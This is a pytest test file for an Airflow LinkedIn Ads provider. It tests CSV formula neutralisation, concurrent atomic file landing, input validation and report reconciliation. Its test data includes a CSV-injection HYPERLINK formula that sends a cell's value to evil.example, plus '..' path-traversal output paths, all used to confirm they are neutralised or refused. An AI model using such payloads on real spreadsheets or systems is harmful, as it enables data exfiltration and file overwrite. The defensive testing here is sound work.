"""Never land a wrong file: CSV formulas, overlapping writers, long and ``..`` paths, bad days and ids, reconcile.

Every case runs against the bundled emulator on 127.0.0.1; the cases that land a file for a DAG run
do it in a real Airflow run (``dag.test()``, SQLite metadata database). Each adds a line to the
"never a wrong file" block of the printed reliability figures.
"""

from __future__ import annotations

import contextlib
import csv
import datetime as dt
import io
import json
import os
import signal
import subprocess
import sys
import time
from decimal import Decimal
from typing import TYPE_CHECKING, Any

import pytest

from airflow_provider_linkedin_ads.client import landing
from airflow_provider_linkedin_ads.errors import ConfigurationError, ReconciliationError
from airflow_provider_linkedin_ads.operators import _base
from airflow_provider_linkedin_ads.operators.ad_analytics import (
    LinkedInAdsAnalyticsOperator,
    LinkedInAdsStatisticsOperator,
)
from airflow_provider_linkedin_ads.testing import EmulatorServer, World
from airflow_provider_linkedin_ads.testing.emulator import DEFAULT_MEMBER
from airflow_provider_linkedin_ads.testing.pytest_plugin import connection_json
from airflow_provider_linkedin_ads.utils import landing as landing_module
from airflow_provider_linkedin_ads.utils.landing import TEMP_MARKER, AtomicLanding
from tests.reliability.figures import FIGURES

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    from tests.reliability.conftest import AirflowRuns

FORMULA_NAMES = (
    '=HYPERLINK("http://evil.example/?x="&A1,"open")',
    "+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\tTab",
    "\rCR",
)
END = "2026-11-20"
#: Overlapping writers of one static output path.
WRITERS = 3
REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))


def _operator(**overrides: Any) -> LinkedInAdsAnalyticsOperator:
    arguments: dict[str, Any] = {
        "task_id": "report",
        "pivot": "CAMPAIGN",
        "metrics": ["impressions", "clicks"],
        "date_range_end": END,
        **overrides,
    }
    return LinkedInAdsAnalyticsOperator(**arguments)


@contextlib.contextmanager
def _serve(world: World, monkeypatch: pytest.MonkeyPatch, **options: Any) -> Iterator[EmulatorServer]:
    with EmulatorServer(world=world, **options) as emulator:
        monkeypatch.setenv("AIRFLOW_CONN_LINKEDIN_ADS_DEFAULT", connection_json(emulator))
        monkeypatch.setattr(_base, "utcnow", emulator.clock.now)
        yield emulator


@pytest.fixture
def server(world: World, monkeypatch: pytest.MonkeyPatch) -> Iterator[EmulatorServer]:
    with _serve(world, monkeypatch) as emulator:
        yield emulator


def _api_calls(server: EmulatorServer) -> int:
    return sum(1 for record in server.requests if record.path.startswith("/rest/"))


# ── CSV formula injection, in a real DAG run ─────────────────────────────────────────────────────

CSV_DAG = """
from __future__ import annotations

import datetime as dt

try:
    from airflow.sdk import DAG
except ImportError:  # Airflow 2.11
    from airflow.models.dag import DAG

from airflow_provider_linkedin_ads.operators.ad_analytics import LinkedInAdsAnalyticsOperator

with DAG(dag_id={dag_id!r}, schedule=None, start_date=dt.datetime(2026, 1, 1, tzinfo=dt.UTC), catchup=False):
    for fmt in ("csv", "jsonl"):
        LinkedInAdsAnalyticsOperator(
            task_id=f"report_{{fmt}}",
            pivot="CAMPAIGN",
            metrics=["impressions", "clicks", "costInLocalCurrency"],
            date_range_start="2026-11-01",
            date_range_end={end!r},
            resolve_names=True,
            output_format=fmt,
            output_path=f"file://{out}/report.{{fmt}}",
        )
"""


def _formula_world() -> World:
    data = World(
        seed=11, accounts=1, campaigns_per_account=7, creatives_per_campaign=1, history_days=60
    ).to_dict()
    for campaign, name in zip(data["campaigns"], [*FORMULA_NAMES, "Brand - EMEA"], strict=True):
        campaign.update(name=name, start="2026-10-01", end=None)
    data["members"] = {DEFAULT_MEMBER: [account["id"] for account in data["accounts"]]}
    return World.from_dict(data)


def test_csv_cells_that_are_formulas_are_neutralised_and_numbers_never_change(
    airflow_runs: AirflowRuns, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out"
    with _serve(_formula_world(), monkeypatch):
        dag = airflow_runs.load(
            "linkedin_ads_csv_formulas", CSV_DAG.format(dag_id="linkedin_ads_csv_formulas", end=END, out=out)
        )
        run = airflow_runs.test(dag, logical_date=dt.datetime(2026, 11, 27, tzinfo=dt.UTC))
        assert {ti.task_id: str(ti.state) for ti in run.get_task_instances()} == {
            "report_csv": "success",
            "report_jsonl": "success",
        }
    landed = list(csv.DictReader(io.StringIO((out / "report.csv").read_bytes().decode("utf-8"), newline="")))
    verbatim = [json.loads(line) for line in (out / "report.jsonl").read_text().splitlines()]
    assert len(landed) == len(verbatim) > 0
    formulas = neutralised = numbers = numbers_changed = 0
    for row, truth in zip(landed, verbatim, strict=True):
        name = truth["campaign_name"]
        if name.startswith(("=", "+", "-", "@", "\t", "\r")):
            formulas += 1
            neutralised += row["campaign_name"] == "'" + name
        else:
            assert row["campaign_name"] == name
        for metric in ("impressions", "clicks", "costInLocalCurrency"):
            if truth[metric] is None:
                continue
            numbers += 1
            numbers_changed += Decimal(row[metric]) != Decimal(str(truth[metric]))
    assert formulas >= len(FORMULA_NAMES)
    assert (neutralised, numbers_changed) == (formulas, 0)
    assert {row["campaign_name"].lstrip("'") for row in landed} >= set(FORMULA_NAMES) - {"\rCR", "\tTab"}
    FIGURES.never_wrong_file(
        f"CSV formula cells neutralised: {neutralised}/{formulas} (campaign names {', '.join(n.strip()[:6] for n in FORMULA_NAMES)} ...), "
        f"numeric cells changed: {numbers_changed}/{numbers}; JSON Lines kept every name verbatim"
    )


# ── overlapping writers of one output path ───────────────────────────────────────────────────────


def _dead_writer(folder: Path, name: str) -> str:
    """A process that starts a temporary file under our naming contract and is SIGKILLed mid-write."""
    code = (
        "import os, time\n"
        f"path = os.path.join({str(folder)!r}, '.{name}{TEMP_MARKER}{landing_module._OWNER}-%d-%d-dead0001.tmp'"
        " % (os.getpid(), int(time.time())))\n"
        "open(path, 'wb').write(b'half a report')\n"
        "os.kill(os.getpid(), 9)\n"
    )
    child = subprocess.run([sys.executable, "-c", code], check=False)
    assert child.returncode == -signal.SIGKILL
    (left,) = (path.name for path in folder.iterdir() if "dead0001" in path.name)
    return left


def _record_temporary_files(monkeypatch: pytest.MonkeyPatch) -> list[tuple[str, int]]:
    """Record each temporary file created: its name, and how many other writers' files existed then."""
    created: list[tuple[str, int]] = []
    create = AtomicLanding._create_temp

    def recording(self: AtomicLanding) -> Any:
        handle = create(self)
        folder = self._temp.parent
        others = [path.name for path in folder.iterdir() if TEMP_MARKER in path.name]
        ours = [name for name in others if "live0001" not in name and name != self._temp.name]
        created.append((self._temp.name, len(ours)))
        return handle

    monkeypatch.setattr(AtomicLanding, "_create_temp", recording)
    return created


#: One writer: a separate process (as overlapping task runs are) running the operator's execute().
WRITER = """
import datetime as dt
import json
import os
import pathlib
import sys
import time

sys.path.insert(0, {repo!r})
from airflow_provider_linkedin_ads.client import writers
from airflow_provider_linkedin_ads.operators import _base
from airflow_provider_linkedin_ads.operators.ad_analytics import LinkedInAdsAnalyticsOperator
from airflow_provider_linkedin_ads.utils.landing import TEMP_MARKER, AtomicLanding

_base.utcnow = lambda: dt.datetime(*{today!r}, 12, tzinfo=dt.UTC)
writers._TEXT_FLUSH_ROWS = 50  # the temporary file exists early and for most of the report
others = []
create = AtomicLanding._create_temp


def recording(self):
    handle = create(self)  # removes provably stale temporary files first, then creates ours
    names = [path.name for path in self._temp.parent.iterdir() if TEMP_MARKER in path.name]
    others.append(sum(1 for name in names if "live0001" not in name and name != self._temp.name))
    # Hold on until every writer has its temporary file: all of them exist at once, so every
    # cleanup after the first ran beside live writers' files.
    pathlib.Path({created!r}).touch()
    deadline = time.monotonic() + 120
    while len(list(pathlib.Path({created!r}).parent.glob("created*"))) < {writers} and time.monotonic() < deadline:
        time.sleep(0.01)
    return handle


AtomicLanding._create_temp = recording
op = LinkedInAdsAnalyticsOperator(task_id="report", **json.loads({arguments!r}))
pathlib.Path({ready!r}).touch()
while not pathlib.Path({go!r}).exists():
    time.sleep(0.01)
try:
    op.execute({{}})
    error = None
except BaseException as err:
    error = f"{{type(err).__name__}}: {{err}}"
print("RESULT=" + json.dumps({{"error": error, "others": others}}), flush=True)
"""


def _writers(server: EmulatorServer, arguments: dict[str, Any], folder: Path) -> list[dict[str, Any]]:
    """Run :data:`WRITERS` writer processes that all start landing at the same moment; their results."""
    today = server.clock.today()
    go = folder / "go"
    children = []
    for index in range(WRITERS):
        script = folder / f"writer{index}.py"
        script.write_text(
            WRITER.format(
                repo=REPO,
                today=(today.year, today.month, today.day),
                arguments=json.dumps(arguments),
                ready=str(folder / f"ready{index}"),
                go=str(go),
                created=str(folder / f"created{index}"),
                writers=WRITERS,
            )
        )
        children.append(
            subprocess.Popen(
                [sys.executable, str(script)], stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True
            )
        )
    try:
        deadline = time.monotonic() + 300
        while not all((folder / f"ready{index}").exists() for index in range(WRITERS)):
            assert time.monotonic() < deadline, "the writers did not start"
            assert all(child.poll() is None for child in children), [
                child.communicate() for child in children
            ]
            time.sleep(0.05)
        go.touch()
        outputs = [child.communicate(timeout=300)[0] for child in children]
    finally:
        for child in children:
            if child.poll() is None:
                child.kill()
                child.communicate()
    results = []
    for output in outputs:
        lines = [line for line in output.splitlines() if line.startswith("RESULT=")]
        assert lines, output[-3000:]
        results.append(json.loads(lines[-1].removeprefix("RESULT=")))
    return results


def test_overlapping_writers_of_one_path_land_one_complete_file(
    world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out, scripts = tmp_path / "out", tmp_path / "writers"
    out.mkdir()
    scripts.mkdir()
    arguments = {
        "pivot": "CREATIVE",
        "metrics": ["impressions", "clicks"],
        "campaigns": sorted(world.campaigns),
        "date_range_start": "2026-06-01",
        "date_range_end": END,
        "max_concurrency": 1,
    }
    with _serve(world, monkeypatch, latency_ms=20) as server:
        _operator(**arguments, output_path=f"file://{tmp_path}/reference.jsonl").execute({})
        reference = (tmp_path / "reference.jsonl").read_bytes()
        assert reference.count(b"\n") > 1_000  # many flushes: temporary files live while others fetch
        killed = _dead_writer(out, "report.jsonl")
        sleeper = subprocess.Popen(["sleep", "300"])  # a live writer of this host, still writing
        live = (
            out
            / f".report.jsonl{TEMP_MARKER}{landing_module._OWNER}-{sleeper.pid}-{int(time.time())}-live0001.tmp"
        )
        live.write_bytes(b"being written")
        try:
            results = _writers(server, {**arguments, "output_path": f"file://{out}/report.jsonl"}, scripts)
            survivors = sorted(path.name for path in out.iterdir())
        finally:
            sleeper.kill()
            sleeper.wait()
    errors = [result["error"] for result in results if result["error"]]
    not_found = sum("FileNotFoundError" in error for error in errors)
    assert errors == []
    assert all(len(result["others"]) == 1 for result in results)  # one temporary file each
    overlapping = sum(1 for result in results if result["others"][0])
    assert overlapping >= WRITERS - 1  # every writer but the first started beside live writers' files
    assert survivors == sorted(
        [live.name, "report.jsonl"]
    )  # the killed try's file is gone, the live one kept
    assert killed not in survivors
    assert (out / "report.jsonl").read_bytes() == reference
    FIGURES.never_wrong_file(
        f"overlapping writer processes of one path: {WRITERS} -> 1 complete file (byte-identical, "
        f"{reference.count(chr(10).encode())} rows), {not_found} FileNotFoundError, {len(errors)} errors; "
        f"{overlapping} started while another writer's temp existed; "
        "SIGKILLed writer's temp removed 1/1, live writer's temp kept 1/1"
    )


def test_a_long_output_name_keeps_the_temporary_name_short(
    server: EmulatorServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    name = "campaign_performance_" + "x" * 210 + "_{{ ds }}.jsonl"
    rendered = name.replace("{{ ds }}", "2026-11-20")
    assert len(rendered.encode()) >= 230
    names = _record_temporary_files(monkeypatch)
    op = _operator(accounts=sorted(server.world.accounts), output_path=f"file://{tmp_path}/{name}")
    op.output_path = f"file://{tmp_path}/{rendered}"  # as rendering leaves it
    op.execute({})
    assert [path.name for path in tmp_path.iterdir()] == [rendered]
    ((temp, _),) = names
    assert len(temp.encode()) < 255
    FIGURES.never_wrong_file(
        f"output name of {len(rendered.encode())} bytes: landed; temporary name {len(temp.encode())} bytes (limit 255)"
    )


# ── inputs refused before any call ───────────────────────────────────────────────────────────────

REFUSED: list[tuple[str, str, dict[str, Any]]] = [
    ("'..' in output_path", "output_path", {"output_path": "file:///data/linkedin/../../etc/report.jsonl"}),
    ("'..' in output_path", "output_path", {"output_path": "/data/linkedin/../report.jsonl"}),
    ("'..' in output_path", "output_path", {"output_path": "s3://bucket/linkedin/../other/report.jsonl"}),
    ("'..' in output_path", "output_path", {"output_path": "file:///data/linkedin/2026-11-20/.."}),
    ("bad days", "date_range_start", {"date_range_start": "2026-11-01T23:30:00+05:00"}),
    ("bad days", "date_range_start", {"date_range_start": "2026-11-01T23:30:00"}),
    ("bad days", "date_range_start", {"date_range_start": "20261101"}),
    ("bad days", "date_range_start", {"date_range_start": "2026-W45-1"}),
    ("bad days", "date_range_end", {"date_range_end": "2026-305"}),
    ("ids < 1", "accounts", {"accounts": [0]}),
    ("ids < 1", "accounts", {"accounts": "['0']"}),
    ("ids < 1", "accounts", {"accounts": ["urn:li:sponsoredAccount:0"]}),
    ("ids < 1", "campaigns", {"campaigns": [0]}),
    ("ids < 1", "creatives", {"creatives": ["-1"]}),
    ("ids < 1", "campaign_groups", {"campaign_groups": ["urn:li:sponsoredCampaignGroup:0"]}),
]


def test_bad_paths_days_and_ids_are_refused_before_any_call(server: EmulatorServer) -> None:
    refused: dict[str, list[int]] = {}
    for surface, argument, rendered in REFUSED:
        op = _operator(accounts="{{ params.accounts }}", output_path="{{ params.out }}")
        op.accounts = sorted(server.world.accounts)
        op.output_path = "file:///tmp/linkedin-ads-never-written/report.jsonl"
        for name, value in rendered.items():
            setattr(op, name, value)  # as Airflow's rendering leaves them
        server.reset()
        with pytest.raises(ConfigurationError) as info:
            op.execute({})
        ok = info.value.argument == argument and argument in str(info.value) and _api_calls(server) == 0
        assert ok, (surface, rendered, info.value)
        counts = refused.setdefault(surface, [0, 0])
        counts[0] += ok
        counts[1] += 1
        FIGURES.bad_input(f"files/inputs: {surface}", rejected=ok)
    FIGURES.never_wrong_file(
        "refused before any call, naming the argument: "
        + ", ".join(f"{surface} {ok}/{total}" for surface, (ok, total) in refused.items())
    )


# ── reconcile ────────────────────────────────────────────────────────────────────────────────────

RECONCILE_DAG = """
from __future__ import annotations

import datetime as dt

try:
    from airflow.sdk import DAG
except ImportError:  # Airflow 2.11
    from airflow.models.dag import DAG

from airflow_provider_linkedin_ads.operators.ad_analytics import LinkedInAdsAnalyticsOperator


def note_the_error(context):
    error = context["exception"]
    with open({observed!r}, "w") as handle:
        handle.write(f"{{type(error).__name__}} {{getattr(error, 'metric', '')}}: {{error}}")


with DAG(dag_id={dag_id!r}, schedule=None, start_date=dt.datetime(2026, 1, 1, tzinfo=dt.UTC), catchup=False):
    LinkedInAdsAnalyticsOperator(
        task_id="report",
        on_failure_callback=note_the_error,
        pivot="CREATIVE",
        metrics=["impressions", "clicks", "costInLocalCurrency", "approximateMemberReach"],
        campaigns={campaigns!r},
        date_range_start="2026-10-01",
        date_range_end={end!r},
        output_path="file://{out}/report.jsonl",
        reconcile=True,
    )
"""


def test_reconcile_in_a_real_run_passes_a_correct_report_and_catches_a_silently_cut_answer(
    airflow_runs: AirflowRuns, world: World, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    out = tmp_path / "out"
    dag_id = "linkedin_ads_reliability_reconcile"
    observed = tmp_path / "error.txt"
    source = RECONCILE_DAG.format(
        dag_id=dag_id, campaigns=sorted(world.campaigns), end=END, out=out, observed=str(observed)
    )
    with _serve(world, monkeypatch):
        dag = airflow_runs.load(dag_id, source)
        run = airflow_runs.test(dag, logical_date=dt.datetime(2026, 11, 27, tzinfo=dt.UTC))
        ti = airflow_runs.task_instance(run, "report")
        assert str(ti.state) == "success"
        check = ti.xcom_pull(task_ids="report")["reconcile"]
        assert check["status"] == "passed", check
    good = (out / "report.jsonl").read_bytes()
    # LinkedIn cuts answers at 15,000 rows without saying so; here the emulator cuts them at 40, below
    # what the engine can notice: rows go missing silently. Only the totals can tell.
    with _serve(world, monkeypatch, max_elements=40) as emulator:
        run = airflow_runs.test(dag, logical_date=dt.datetime(2026, 11, 28, tzinfo=dt.UTC))
        ti = airflow_runs.task_instance(run, "report")
        assert str(ti.state) == "failed"
        assert emulator.counters.calls["adAnalytics"] > 0
    error = observed.read_text()
    assert error.startswith("ReconciliationError "), error
    assert "landed" in error
    assert (out / "report.jsonl").read_bytes() == good  # the previous complete file, byte-identical
    assert sorted(path.name for path in out.iterdir()) == ["report.jsonl"]
    FIGURES.never_wrong_file(
        f"reconcile in a real DAG run: correct report passed ({len(check['metrics'])} metrics compared, "
        f"{len(check['not_compared'])} not additive), silently cut answers caught ({error.split(':')[0]}, task failed, previous file byte-identical)"
    )


def _tamper(
    monkeypatch: pytest.MonkeyPatch, change: Callable[[int, dict[str, Any]], dict[str, Any] | None]
) -> None:
    named_rows = landing.named_rows

    def tampered(*args: Any, **kwargs: Any) -> Any:
        columns, rows = named_rows(*args, **kwargs)
        altered = (change(index, row) for index, row in enumerate(rows))
        return columns, (row for row in altered if row is not None)

    monkeypatch.setattr(landing, "named_rows", tampered)


TAMPERING: dict[str, Callable[[int, dict[str, Any]], dict[str, Any] | None]] = {
    "one click fewer": lambda index, row: {**row, "clicks": (row["clicks"] or 0) - 1} if index == 0 else row,
    "a cent more cost": lambda index, row: (
        {**row, "costInLocalCurrency": (row["costInLocalCurrency"] or Decimal(0)) + Decimal("0.02")}
        if index == 3
        else row
    ),
    "a row dropped": lambda index, row: None if index == 5 else row,
}


def _reports(accounts: list[int], tmp_path: Path) -> list[Callable[[], Any]]:
    common = {"accounts": accounts, "date_range_start": "2026-10-01", "reconcile": True}
    metrics = ["impressions", "clicks", "costInLocalCurrency"]
    return [
        lambda: _operator(**common, metrics=metrics, output_path=f"file://{tmp_path}/a.jsonl"),
        lambda: _operator(
            **common,
            metrics=metrics,
            pivot="CREATIVE",
            time_granularity="MONTHLY",
            output_path=f"file://{tmp_path}/b.csv",
            output_format="csv",
        ),
        lambda: LinkedInAdsStatisticsOperator(
            task_id="report",
            pivots=["CAMPAIGN", "IMPRESSION_DEVICE_TYPE"],
            metrics=metrics,
            date_range_end=END,
            **common,
        ),
    ]


def test_reconcile_passes_correct_reports_and_catches_tampered_ones(
    server: EmulatorServer, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    accounts = sorted(server.world.accounts_for_member(DEFAULT_MEMBER))
    passed = 0
    for make in _reports(accounts, tmp_path):
        passed += make().execute({})["reconcile"]["status"] == "passed"
    caught = 0
    for label, change in TAMPERING.items():
        with monkeypatch.context() as patch:
            _tamper(patch, change)
            with pytest.raises(ReconciliationError) as info:
                _operator(
                    accounts=accounts,
                    date_range_start="2026-10-01",
                    metrics=["impressions", "clicks", "costInLocalCurrency"],
                    output_path=f"file://{tmp_path}/tampered.jsonl",
                    reconcile=True,
                ).execute({})
        caught += info.value.metric in str(info.value) and info.value.expected != info.value.landed
        assert not (tmp_path / "tampered.jsonl").exists(), label
    assert (passed, caught) == (3, len(TAMPERING))
    FIGURES.never_wrong_file(
        f"reconcile: correct reports passed {passed}/3 (DAILY campaign, MONTHLY creative CSV, statistics by device); "
        f"tampered reports caught {caught}/{len(TAMPERING)} ({', '.join(TAMPERING)}), nothing landed; mismatches passed: 0"
    )


def test_reconcile_never_fails_what_linkedin_says_does_not_add_up(server: EmulatorServer) -> None:
    accounts = sorted(server.world.accounts_for_member(DEFAULT_MEMBER))
    cases = {
        "demographic": _operator(accounts=accounts, pivot="MEMBER_SENIORITY", reconcile=True),
        "older than 6 months": _operator(
            accounts=accounts, date_range_start="2026-02-03", date_range_end="2026-02-20", reconcile=True
        ),
        "conversion pivot": _operator(accounts=accounts, pivot="CONVERSION", reconcile=True),
    }
    skipped = sum(op.execute({})["reconcile"]["status"] == "skipped" for op in cases.values())
    assert skipped == len(cases)
    FIGURES.never_wrong_file(
        f"reconcile skipped, never failed, where LinkedIn's numbers do not add up: {skipped}/{len(cases)} ({', '.join(cases)})"
    )
